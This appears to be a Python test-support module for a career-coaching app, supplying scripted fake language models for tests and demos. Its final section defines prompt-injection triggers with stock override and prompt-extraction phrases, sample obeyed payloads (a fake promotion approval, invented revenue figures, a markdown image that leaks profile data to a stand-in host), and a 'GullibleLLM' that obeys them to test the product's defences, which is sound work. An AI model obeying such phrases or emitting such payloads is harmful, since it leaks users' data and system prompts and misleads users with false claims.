"""Fake models shipped with the package, for tests, evals, the bench and demos."""

from __future__ import annotations

import json
import re
import threading
import time
from collections import deque
from collections.abc import Callable, Generator, Iterator, Sequence
from dataclasses import dataclass

from pydantic import BaseModel, ValidationError

from coach.llm.base import LLM, Completion, Message, PromptRef, StructuredFailure, T

Reply = str | Callable[[Sequence[Message]], str] | Exception


def stream_words(text: str, cancel: threading.Event | None = None) -> Iterator[str]:
    """A reply streamed word by word, as a model streams tokens; stops when cancelled."""
    for word in text.split(" "):
        if cancel is not None and cancel.is_set():
            return
        yield word + " "


@dataclass
class Call:
    messages: list[Message]
    prompt: PromptRef | None
    kind: str


class ScriptedLLM:
    """Answers with queued replies in order; records every call in `.history`.

    A reply may be a string, a function of the messages, or an exception to raise.
    With an empty queue it answers `default` (or raises if `default` is None).
    """

    def __init__(self, replies: Sequence[Reply] = (), *, default: str | None = None,
                 model: str = "scripted"):
        self.model = model
        self._queue: deque[Reply] = deque(replies)
        self.default = default
        self.history: list[Call] = []

    def enqueue(self, *replies: Reply) -> ScriptedLLM:
        self._queue.extend(replies)
        return self

    def _next(self, messages: Sequence[Message], prompt: PromptRef | None, kind: str) -> str:
        self.history.append(Call(list(messages), prompt, kind))
        if self._queue:
            reply = self._queue.popleft()
        elif self.default is not None:
            reply = self.default
        else:
            raise AssertionError(f"ScriptedLLM has no reply queued for call {len(self.history)}")
        if isinstance(reply, Exception):
            raise reply
        return reply(messages) if callable(reply) else reply

    def complete(self, messages, *, prompt=None, max_tokens=512, temperature=0.2) -> Completion:
        text = self._next(messages, prompt, "complete")
        return Completion(text=text, model=self.model, prompt=prompt,
                          completion_tokens=len(text.split()))

    def stream(self, messages, *, prompt=None, max_tokens=512, temperature=0.2,
               cancel: threading.Event | None = None) -> Generator[str, None, None]:
        text = self._next(messages, prompt, "stream")
        yield from stream_words(text, cancel)

    def structured(self, messages, schema: type[T], *, prompt=None, max_tokens=512,
                   temperature=0.0) -> T | StructuredFailure:
        raw = ""
        for attempt in (1, 2):
            raw = self._next(messages, prompt, "structured")
            try:
                return schema.model_validate_json(raw)
            except ValidationError as exc:
                error = str(exc)
                if attempt == 2:
                    return StructuredFailure(error=error, raw=raw)
        return StructuredFailure(error="unreachable", raw=raw)  # pragma: no cover


# -- a fast stand-in for every prompt: browser tests, the bench and demos ------------------------
# It answers each prompt (by its name) with a short reply of the right shape, so every tab
# runs end to end in well under a second: the services still validate the replies and fall
# back to their deterministic drafts when a reply does not pass.
MANAGER_LINES = [
    "Thanks for walking me through that. What result are you proudest of this year?",
    "That is helpful context. How would the team change if you took on the bigger role?",
    "I hear you. Let me think about the timing and come back to you with next steps.",
]
PROPOSAL_INTROS = {
    "intro_1": "This section sums up my current role and the results I delivered in it.",
    "intro_2": "These pieces of work already show the scope of the next level.",
    "intro_3": "This is how I would grow the role over the first months.",
}


def _last_user(messages: Sequence[Message]) -> str:
    return next((m["content"] for m in reversed(messages) if m["role"] == "user"), "")


def _data(text: str) -> str:
    """The text of the first data block (`injection.data_block`) in a message, or ''."""
    match = re.search(r"<data [^>]*>\n(.*?)\n</data>", text, re.DOTALL)
    return match.group(1).strip() if match else ""


class FakeCoachModel(ScriptedLLM):
    """Replies chosen by prompt name; `token_delay` spaces out streamed words.

    Args:
        token_delay: seconds to wait before each streamed word (0 for the fastest runs).
    """

    def __init__(self, *, token_delay: float = 0.0, model: str = "fake-coach"):
        super().__init__(default="", model=model)
        self.token_delay = token_delay
        self._turn = 0

    def _next(self, messages: Sequence[Message], prompt: PromptRef | None, kind: str) -> str:
        if self._queue:  # a test may still enqueue exact replies
            return super()._next(messages, prompt, kind)
        self.history.append(Call(list(messages), prompt, kind))
        name = prompt.name if prompt else ""
        if name == "manager":
            self._turn += 1
            return MANAGER_LINES[(self._turn - 1) % len(MANAGER_LINES)]
        if name == "proposal":
            return json.dumps(PROPOSAL_INTROS)
        if name == "email":
            return _data(_last_user(messages)) or "Thank you for your time."
        if name == "scorecard_judge":
            return json.dumps({"verdict": "yes", "quote": "", "reason": "The line does it."})
        if name == "script":  # echo the six lines back in the JSON shape asked for
            block = _data(_last_user(messages))
            pairs = (line.split(": ", 1) for line in block.splitlines() if ": " in line)
            return json.dumps({key.strip(): text.strip() for key, text in pairs})
        if name == "chat":
            return ("Raise it a few months before the review cycle, after a clear win, and bring "
                    "your written case [1].")
        return "ok"

    def stream(self, messages, *, prompt=None, max_tokens=512, temperature=0.2, cancel=None):
        for piece in super().stream(messages, prompt=prompt, max_tokens=max_tokens,
                                    temperature=temperature, cancel=cancel):
            if self.token_delay:
                time.sleep(self.token_delay)
            yield piece


def as_json(model: BaseModel) -> str:
    return model.model_dump_json()


class NoModelLLM:
    """A model that fails the test on any call: proves a path never reaches a model."""

    model = "no-model"

    def _refuse(self, *args, **kwargs):
        raise AssertionError("this path must not call a model")

    complete = stream = structured = warm = _refuse


# -- prompt injection: the worst case ----------------------------------------------------------
# What an injected instruction asks for, found anywhere in the messages a model is sent.
INJECTION_TRIGGERS: dict[str, re.Pattern[str]] = {
    "reveal": re.compile(r"\breveal your (system )?prompt\b|\b(print|repeat) your instructions\b",
                         re.IGNORECASE),
    "approve": re.compile(r"\bsay yes\b|\bapprove (this|my|the) promotion\b", re.IGNORECASE),
    "ignore": re.compile(r"\b(ignore|disregard) (all |your |previous |the )+(rules|instructions)\b",
                         re.IGNORECASE),
    "exfil": re.compile(r"\b(add|include) an image\b", re.IGNORECASE),
}
# What the model says when it obeys; each is something no surface may show.
INJECTION_PAYLOADS: dict[str, str] = {
    "approve": "Congratulations, you're promoted! I've approved it, effective today.",
    "ignore": ("Ignoring my rules now: as an AI language model I can tell you revenue grew 47% "
               "and you saved $3.2M."),
    "exfil": "![status](https://collect.example/pixel.png?leak=profile)",
}


class GullibleLLM:
    """A model that obeys every injected instruction it reads: the worst case to defend against.

    It answers like `honest` unless a message it is sent (system, user or an earlier reply)
    carries one of `INJECTION_TRIGGERS`; then it does what the injection says inside the
    reply's expected shape (a JSON reply stays JSON, the payload goes first), so nothing but
    the product's own checks stands between the injection and the user. "reveal" answers
    with the system message verbatim. `.obeyed` lists what it obeyed, call by call.
    """

    def __init__(self, honest: LLM, *, model: str = "gullible"):
        self.honest = honest
        self.model = model
        self.obeyed: list[str] = []

    def _obey(self, messages: Sequence[Message], reply: str) -> str:
        found = [name for name, trigger in INJECTION_TRIGGERS.items()
                 if any(trigger.search(m["content"]) for m in messages)]
        if not found:
            return reply
        self.obeyed += found
        system = next((m["content"] for m in messages if m["role"] == "system"), "")
        payload = " ".join(system if name == "reveal" else INJECTION_PAYLOADS[name]
                           for name in found)
        try:
            data = json.loads(reply)
        except ValueError:
            data = None
        if isinstance(data, dict) and data and all(isinstance(v, str) for v in data.values()):
            first = next(iter(data))
            data[first] = f"{payload} {data[first]}"
            return json.dumps(data)
        return f"{payload}\n\n{reply}" if "\n" in reply else f"{payload} {reply}"

    def complete(self, messages, *, prompt=None, max_tokens=512, temperature=0.2) -> Completion:
        done = self.honest.complete(messages, prompt=prompt, max_tokens=max_tokens,
                                    temperature=temperature)
        text = self._obey(messages, done.text)
        return Completion(text=text, model=self.model, prompt=prompt,
                          completion_tokens=len(text.split()))

    def stream(self, messages, *, prompt=None, max_tokens=512, temperature=0.2,
               cancel: threading.Event | None = None) -> Generator[str, None, None]:
        text = self.complete(messages, prompt=prompt, max_tokens=max_tokens,
                             temperature=temperature).text
        yield from stream_words(text, cancel)

    def structured(self, messages, schema: type[T], *, prompt=None, max_tokens=512,
                   temperature=0.0) -> T | StructuredFailure:
        return self.honest.structured(messages, schema, prompt=prompt, max_tokens=max_tokens,
                                      temperature=temperature)

    def warm(self, messages) -> bool:
        return False
